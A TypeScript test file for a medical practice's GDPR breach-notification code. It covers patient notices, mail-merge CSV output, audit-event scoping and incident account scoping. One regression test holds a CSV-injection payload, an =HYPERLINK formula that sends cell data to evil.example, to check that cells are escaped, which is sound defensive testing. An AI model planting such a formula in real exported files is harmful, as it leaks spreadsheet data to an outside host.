import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATEGORY_TEXT, csvCell, mailMergeCsv, patientNotice, type PatientNoticeInput } from './documents.js';
import { CATEGORIES, scopeAccounts, touches, type Category } from './scope.js';
import type { Tx } from '../store/index.js';

const contact = { dpoName: 'Camille DPO', dpoEmail: 'dpo@example.test', operator: 'host' };

const name = fc.tuple(fc.stringMatching(/^[A-Z][a-zé]{3,9}$/), fc.stringMatching(/^[A-Z]{4,12}$/)).map(([g, f]) => `${g} ${f}`);
const patient = fc.record({
  patientId: fc.uuid(),
  name,
  address: fc.option(fc.record({ line: fc.stringMatching(/^[0-9]{1,3} rue [A-Z][a-z]{3,8}$/), postalCode: fc.stringMatching(/^[0-9]{5}$/), city: fc.stringMatching(/^[A-Z][a-z]{3,10}$/) }), { nil: null }),
  email: fc.option(fc.emailAddress(), { nil: null }),
  practiceName: fc.constant('Cabinet du Parc'),
  categories: fc.subarray([...CATEGORIES], { minLength: 1 }),
  sensitive: fc.boolean(),
  firstAt: fc.constant('2026-03-09T08:00:00.000Z'),
  lastAt: fc.constant('2026-03-09T09:00:00.000Z'),
  contained: fc.boolean(),
}) as fc.Arbitrary<PatientNoticeInput>;

describe('Art. 34 notices', () => {
  it('name only their own patient and their own categories (property over many patients)', () => {
    fc.assert(
      fc.property(fc.uniqueArray(patient, { minLength: 2, maxLength: 12, selector: (p) => p.name }), fc.constantFrom('fr' as const, 'en' as const), (patients, lang) => {
        for (const p of patients) {
          const n = patientNotice(p, contact, lang);
          expect(n.text).toContain(p.name);
          for (const other of patients) {
            if (other === p) continue;
            expect(n.text).not.toContain(other.name);
            expect(n.text).not.toContain(other.patientId);
            if (other.email && other.email !== p.email) expect(n.text).not.toContain(other.email);
            if (other.address && other.address.line !== p.address?.line) expect(n.text).not.toContain(other.address.line);
          }
          for (const c of CATEGORIES) {
            if (p.categories.includes(c)) expect(n.text).toContain(CATEGORY_TEXT[lang][c]);
            else expect(n.text).not.toContain(CATEGORY_TEXT[lang][c]);
          }
          expect(n.text).toContain(contact.dpoEmail);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('list each patient on one row of the mail-merge file, quoting what needs it', () => {
    const rows: PatientNoticeInput[] = [
      { patientId: 'a', name: 'Jean, dit "Jeannot" DUPONT', address: { line: '1 rue X', postalCode: '75001', city: 'Paris' }, email: null, practiceName: 'P', categories: ['identity'], sensitive: true, firstAt: '2026-01-01T00:00:00Z', lastAt: '2026-01-02T00:00:00Z', contained: true },
      { patientId: 'b', name: 'Anne MARTIN', address: null, email: 'a@b.fr', practiceName: 'P', categories: ['notes', 'nir'], sensitive: false, firstAt: '2026-01-01T00:00:00Z', lastAt: '2026-01-01T00:00:00Z', contained: false },
    ];
    const csv = mailMergeCsv(rows, 'fr').trim().split('\n');
    expect(csv).toHaveLength(3);
    expect(csv[1]).toContain('"Jean, dit ""Jeannot"" DUPONT"');
    expect(csv[1]).toContain(',oui,');
    expect(csv[2]).toContain('notes cliniques | NIR / INS');
  });
});

describe('what an audit event disclosed', () => {
  const base = { at: new Date(), user_id: 'u', practice_id: 'p', role: 'practitioner', outcome: 'success', resource_id: null, patient_id: null, labels: [], purpose: 'care', detail: null };
  const cats = (t: { categories: readonly Category[] }) => [...t.categories];

  it('counts every identity a broad search returned, even of patients in care', () => {
    const t = touches({ ...base, action: 'search', resource_type: 'Patient', detail: { returned: ['a', 'b'], broad: true, unexplained: ['b'] } });
    expect(t.map((x) => [x.patientId, x.explained])).toEqual([['a', false], ['b', false]]);
    expect(cats(t[0]!)).toEqual(['identity', 'contacts', 'nir']);
  });

  it('explains a specific search or a read by the care relationships the event recorded', () => {
    const s = touches({ ...base, action: 'search', resource_type: 'Patient', detail: { returned: ['a', 'b'], broad: false, unexplained: ['b'] } });
    expect(s.map((x) => [x.patientId, x.explained])).toEqual([['a', true], ['b', false]]);
    const r = touches({ ...base, action: 'read', resource_type: 'Patient', patient_id: 'a', detail: { unexplained: [] } });
    expect(r[0]!.explained).toBe(true);
    // An assistant's read carries no care facts: not explained.
    const asst = touches({ ...base, role: 'assistant', purpose: 'admin', action: 'read', resource_type: 'Patient', patient_id: 'a', detail: null });
    expect(asst[0]!.explained).toBe(false);
  });

  it('reads clinical notes with their labels, and break-the-glass is never care', () => {
    const n = touches({ ...base, action: 'read', resource_type: 'DocumentReference', resource_id: 'n1', patient_id: 'a', labels: ['HIV'], purpose: 'care' });
    expect(n[0]).toMatchObject({ patientId: 'a', notes: ['n1'], labels: ['HIV'], explained: true, categories: ['notes'] });
    const g = touches({ ...base, action: 'read', resource_type: 'DocumentReference', resource_id: 'n1', patient_id: 'a', labels: [], purpose: 'break-the-glass' });
    expect(g[0]).toMatchObject({ explained: false, breakGlass: true });
  });

  it('counts appointments disclosed by an appointment search, and nothing for refusals or writes', () => {
    const a = touches({ ...base, action: 'search', resource_type: 'Appointment', detail: { returned: ['a', 'b'], unexplained: ['b'] } });
    expect(a.map((x) => [x.patientId, cats(x), x.explained])).toEqual([['a', ['appointments'], true], ['b', ['appointments'], false]]);
    expect(touches({ ...base, action: 'read', resource_type: 'Patient', patient_id: 'a', outcome: 'denied' })).toEqual([]);
    expect(touches({ ...base, action: 'create', resource_type: 'DocumentReference', patient_id: 'a' })).toEqual([]);
    const all = touches({ ...base, action: 'everything', resource_type: 'Patient', patient_id: 'a', purpose: 'care', labels: ['PSY'], detail: { appointments: 2, notes: ['n1', 'n2'] } });
    expect(all[0]).toMatchObject({ categories: ['identity', 'contacts', 'nir', 'appointments', 'notes'], notes: ['n1', 'n2'], labels: ['PSY'] });
  });
});

describe('the mail-merge list', () => {
  it('escapes cells that a spreadsheet would run as formulas (OWASP CSV injection; regression: =HYPERLINK was written as is)', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"clic")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"');
    for (const bad of ['+33 1 23', '-1+1', '@SUM(A1)', '\tcmd', '\rcmd']) expect(csvCell(bad).startsWith('"\'')).toBe(true);
    expect(csvCell('12 rue de la Paix')).toBe('12 rue de la Paix');
    expect(csvCell('Jean, dit "Jeannot"')).toBe('"Jean, dit ""Jeannot"""');
  });

  it('never starts a cell with a formula character, whatever the address (property)', () => {
    fc.assert(fc.property(fc.string(), (v) => {
      const cell = csvCell(v);
      const inner = cell.startsWith('"') ? cell.slice(1) : cell;
      expect(/^[=+\-@\t\r]/.test(inner)).toBe(false);
    }), { numRuns: 500 });
  });
});

describe('which care accesses an incident counts', () => {
  const at = new Date('2026-12-01T10:00:00Z');
  const read = (user: string, ip: string, patient: string) => ({
    at, user_id: user, practice_id: 'p', role: 'practitioner', outcome: 'success', action: 'read', resource_type: 'Patient', resource_id: patient, patient_id: patient,
    labels: [], purpose: 'care', detail: { unexplained: [] }, session_id: `${user}-${ip}`, source_ip: ip,
  });
  // The thief on the victim's account from 203.0.113.9, then from another address; a colleague behind the same address.
  const rows = [read('victim', '203.0.113.9', 'p1'), read('colleague', '203.0.113.9', 'p2'), read('victim', '198.51.100.7', 'p3')];
  const tx = { query: async () => ({ rows, rowCount: rows.length }) } as unknown as Tx;
  const window = { kind: 'account-abuse' as const, sessions: [], from: new Date(at.getTime() - 3_600_000), to: new Date(at.getTime() + 3_600_000) };

  it('counts the care reads the named address matched for the named account, not its colleagues behind the same address (regression)', async () => {
    const s = await scopeAccounts(tx, { ...window, userIds: ['victim'], addresses: ['203.0.113.9'] });
    expect(s.patients).toEqual(['p1']);
    expect([...s.care.patients].sort()).toEqual(['p2', 'p3']);
  });

  it('counts every care read of an address named alone, and one rule for all when countCare is given', async () => {
    expect([...(await scopeAccounts(tx, { ...window, userIds: [], addresses: ['203.0.113.9'] })).patients].sort()).toEqual(['p1', 'p2']);
    expect([...(await scopeAccounts(tx, { ...window, userIds: ['victim'], addresses: ['203.0.113.9'], countCare: true })).patients].sort()).toEqual(['p1', 'p2', 'p3']);
    expect((await scopeAccounts(tx, { ...window, userIds: ['victim'], addresses: ['203.0.113.9'], countCare: false })).patients).toEqual([]);
  });
});
